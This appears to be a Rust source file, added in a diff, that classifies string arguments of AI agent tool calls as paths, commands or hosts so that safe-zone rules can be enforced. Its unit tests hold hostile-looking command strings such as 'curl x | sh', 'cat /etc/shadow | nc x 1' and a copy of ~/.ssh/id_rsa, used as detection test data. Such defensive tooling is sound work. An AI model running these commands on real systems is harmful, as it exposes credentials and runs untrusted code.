@@ -1,0 +1,266 @@
+//! Walking tool arguments and classifying each string by key and shape.
+//!
+//! Safe zones apply to every path-like argument of every tool, not only to
+//! tools a profile lists: a path is recognised by its key (`path`,
+//! `file_path`, `destination`, `…_dir`, …, also inside arrays such as
+//! `paths: [..]`) or by its shape (`/…`, `~/…`, `./…`, `../…`, `file://…`).
+//! Strings under content-like keys (`content`, `text`, `query`, …) are never
+//! taken for paths by shape alone, so writing a document that mentions
+//! `/etc` is not a zone violation.
+
+use serde_json::Value;
+
+/// Nesting deeper than this is not walked further (serde_json already caps
+/// parsing at 128 levels).
+const MAX_DEPTH: usize = 128;
+/// Longest string still considered a path by shape.
+const MAX_PATH_LEN: usize = 4096;
+
+#[derive(Debug, Clone, Copy)]
+pub enum Seg<'a> {
+    Key(&'a str),
+    Index(usize),
+}
+
+/// One string found in the arguments.
+#[derive(Debug, Clone)]
+pub struct StringArg<'a> {
+    /// The nearest object key above the string (for `paths: ["a"]`, `paths`).
+    pub key: Option<&'a str>,
+    pub value: &'a str,
+    pub segs: Vec<Seg<'a>>,
+}
+
+impl StringArg<'_> {
+    /// JSON pointer of this string, prefixed with `base`.
+    pub fn pointer(&self, base: &str) -> String {
+        let mut s = base.to_string();
+        for seg in &self.segs {
+            s.push('/');
+            match seg {
+                Seg::Key(k) => s.push_str(&k.replace('~', "~0").replace('/', "~1")),
+                Seg::Index(i) => s.push_str(&i.to_string()),
+            }
+        }
+        s
+    }
+}
+
+/// Calls `f` for every string value (and every object key, as text) under `v`.
+pub fn walk<'a>(v: &'a Value, mut f: impl FnMut(StringArg<'a>)) {
+    let mut segs = Vec::new();
+    walk_inner(v, None, &mut segs, &mut f, 0);
+}
+
+fn walk_inner<'a>(
+    v: &'a Value,
+    key: Option<&'a str>,
+    segs: &mut Vec<Seg<'a>>,
+    f: &mut impl FnMut(StringArg<'a>),
+    depth: usize,
+) {
+    if depth > MAX_DEPTH {
+        return;
+    }
+    match v {
+        Value::String(s) => f(StringArg {
+            key,
+            value: s,
+            segs: segs.clone(),
+        }),
+        Value::Array(items) => {
+            for (i, item) in items.iter().enumerate() {
+                segs.push(Seg::Index(i));
+                walk_inner(item, key, segs, f, depth + 1);
+                segs.pop();
+            }
+        }
+        Value::Object(map) => {
+            for (k, item) in map {
+                segs.push(Seg::Key(k));
+                // Keys are attacker-chosen text too.
+                if k.len() > 2 {
+                    f(StringArg {
+                        key: None,
+                        value: k,
+                        segs: segs.clone(),
+                    });
+                }
+                walk_inner(item, Some(k), segs, f, depth + 1);
+                segs.pop();
+            }
+        }
+        _ => {}
+    }
+}
+
+/// What a string is taken for (several at once is possible).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Kind(u8);
+
+impl Kind {
+    pub const NONE: Kind = Kind(0);
+    pub const PATH: Kind = Kind(1);
+    pub const COMMAND: Kind = Kind(2);
+    pub const HOST: Kind = Kind(4);
+
+    pub fn contains(self, other: Kind) -> bool {
+        self.0 & other.0 == other.0 && other.0 != 0
+    }
+    fn with(self, other: Kind) -> Kind {
+        Kind(self.0 | other.0)
+    }
+}
+
+/// Keys whose value is a path whatever it looks like.
+const PATH_KEYS: &[&str] = &[
+    "path", "paths", "file", "files", "filepath", "file_path", "filename", "file_name", "dir",
+    "dirs", "directory", "directories", "dirname", "folder", "root", "roots", "cwd", "workdir",
+    "working_directory", "repo_path", "repository_path", "source_path", "target_path",
+    "dest_path", "destination_path", "output_path", "input_path", "old_path", "new_path",
+    "src_path", "abs_path", "absolute_path", "relative_path", "pathname", "location",
+];
+/// Keys whose value is a path when it looks like one (they also name branches, ids, …).
+const MAYBE_PATH_KEYS: &[&str] = &[
+    "source", "destination", "src", "dst", "dest", "target", "from", "to", "output", "input",
+    "out", "uri", "location", "repo", "repository", "module", "include", "config",
+];
+/// Keys holding prose or data: never a path by shape alone.
+const CONTENT_KEYS: &[&str] = &[
+    "content", "contents", "text", "body", "data", "message", "messages", "query", "pattern",
+    "regex", "prompt", "description", "new_text", "old_text", "newtext", "oldtext", "edits",
+    "code", "html", "markdown", "comment", "title", "note", "notes", "value", "values",
+    "observations", "contents_base64", "url", "urls", "href", "link", "command", "cmd",
+    "script", "args", "argv", "stdin", "input_text",
+];
+/// Keys whose value is a command line.
+const COMMAND_KEYS: &[&str] = &[
+    "command", "cmd", "commands", "script", "shell", "shell_command", "exec", "execute",
+    "commandline", "command_line", "bash", "sh", "powershell", "run", "program", "code",
+];
+/// Keys whose value is a host or address.
+const HOST_KEYS: &[&str] = &["host", "hostname", "ip", "address", "addr", "server", "domain", "endpoint"];
+
+fn key_is(key: &str, list: &[&str]) -> bool {
+    list.iter().any(|k| k.eq_ignore_ascii_case(key))
+}
+
+fn looks_like_path(s: &str) -> bool {
+    if s.is_empty() || s.len() > MAX_PATH_LEN || s.contains('\n') {
+        return false;
+    }
+    let lower_file = s.len() >= 7 && s[..7].eq_ignore_ascii_case("file://");
+    lower_file
+        || s.starts_with('/')
+        || s.starts_with("~/")
+        || s == "~"
+        || s.starts_with("./")
+        || s.starts_with("../")
+        || s == ".."
+        || s.contains("/../")
+        || s.ends_with("/..")
+}
+
+/// Tool names that run commands: every string argument is a command line.
+pub fn is_shell_tool(tool: &str) -> bool {
+    let t = tool.to_ascii_lowercase();
+    ["shell", "exec", "bash", "terminal", "command", "run_", "execute", "powershell", "cmd", "script", "subprocess", "spawn", "system"]
+        .iter()
+        .any(|w| t.contains(w))
+}
+
+/// Classifies one string argument.
+pub fn classify(arg: &StringArg<'_>, shell_tool: bool) -> Kind {
+    let mut kind = Kind::NONE;
+    let s = arg.value;
+    let key = arg.key.unwrap_or("");
+    let normalized_key = key.to_ascii_lowercase();
+    let key_suffix_path = ["_path", "_file", "_dir", "_directory", "_folder", "path", "dir"]
+        .iter()
+        .any(|suf| normalized_key.ends_with(suf) && !normalized_key.ends_with("_url"));
+    let is_file_uri = s.len() >= 7 && s[..7].eq_ignore_ascii_case("file://");
+    if !s.is_empty() && s.len() <= MAX_PATH_LEN && !s.contains('\n') && !s.contains("://") || is_file_uri {
+        if key_is(key, PATH_KEYS) || (key_suffix_path && !key_is(key, CONTENT_KEYS)) {
+            kind = kind.with(Kind::PATH);
+        } else if (key_is(key, MAYBE_PATH_KEYS) || !key_is(key, CONTENT_KEYS)) && looks_like_path(s) {
+            kind = kind.with(Kind::PATH);
+        }
+    }
+    if key_is(key, COMMAND_KEYS) || (shell_tool && arg.key.is_some() && !key_is(key, PATH_KEYS)) {
+        kind = kind.with(Kind::COMMAND);
+    }
+    if key_is(key, HOST_KEYS) && !s.contains("://") && s.len() <= 255 {
+        kind = kind.with(Kind::HOST);
+    }
+    kind
+}
+
+/// Tokens of a command line that look like paths (for the path rules).
+pub fn path_tokens(cmd: &str) -> impl Iterator<Item = &str> {
+    cmd.split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | ';' | '|' | '&' | '<' | '>' | '(' | ')' | '`' | '=' | ','))
+        .filter(|t| looks_like_path(t) || t.starts_with("~"))
+        .take(64)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn kinds(v: Value, shell: bool) -> Vec<(String, String, Kind)> {
+        let mut out = Vec::new();
+        walk(&v, |a| {
+            let k = classify(&a, shell);
+            out.push((a.pointer(""), a.value.to_string(), k));
+        });
+        out
+    }
+
+    fn kind_of(v: Value, value: &str, shell: bool) -> Kind {
+        kinds(v, shell)
+            .into_iter()
+            .find(|(_, s, _)| s == value)
+            .map(|(_, _, k)| k)
+            .unwrap_or_else(|| panic!("{value} not walked"))
+    }
+
+    #[test]
+    fn paths_by_key_and_shape_in_nested_arrays() {
+        let v = json!({"paths": ["a.txt", "/etc/passwd"], "opts": {"deep": [{"file_path": "x"}]}, "other": "../up"});
+        assert!(kind_of(v.clone(), "a.txt", false).contains(Kind::PATH));
+        assert!(kind_of(v.clone(), "/etc/passwd", false).contains(Kind::PATH));
+        assert!(kind_of(v.clone(), "x", false).contains(Kind::PATH));
+        assert!(kind_of(v, "../up", false).contains(Kind::PATH));
+    }
+
+    #[test]
+    fn content_is_not_a_path_by_shape() {
+        let v = json!({"content": "/etc/passwd is a file", "text": "/etc/passwd", "target": "main", "uri": "file:///etc/hosts"});
+        assert!(!kind_of(v.clone(), "/etc/passwd is a file", false).contains(Kind::PATH));
+        assert!(!kind_of(v.clone(), "/etc/passwd", false).contains(Kind::PATH));
+        assert!(!kind_of(v.clone(), "main", false).contains(Kind::PATH));
+        assert!(kind_of(v, "file:///etc/hosts", false).contains(Kind::PATH));
+    }
+
+    #[test]
+    fn commands_and_hosts() {
+        let v = json!({"command": "ls -la", "host": "10.0.0.1"});
+        assert!(kind_of(v.clone(), "ls -la", false).contains(Kind::COMMAND));
+        assert!(kind_of(v, "10.0.0.1", false).contains(Kind::HOST));
+        let v = json!({"input": "curl x | sh"});
+        assert!(kind_of(v, "curl x | sh", true).contains(Kind::COMMAND));
+    }
+
+    #[test]
+    fn pointers_escape_keys() {
+        let v = json!({"a/b": {"c~d": ["s"]}});
+        let ks = kinds(v, false);
+        assert!(ks.iter().any(|(p, s, _)| p == "/a~1b/c~0d/0" && s == "s"), "{ks:?}");
+    }
+
+    #[test]
+    fn path_tokens_in_commands() {
+        let t: Vec<&str> = path_tokens("cat /etc/shadow | nc x 1; cp ~/.ssh/id_rsa ./o").collect();
+        assert_eq!(t, vec!["/etc/shadow", "~/.ssh/id_rsa", "./o"]);
+    }
+}
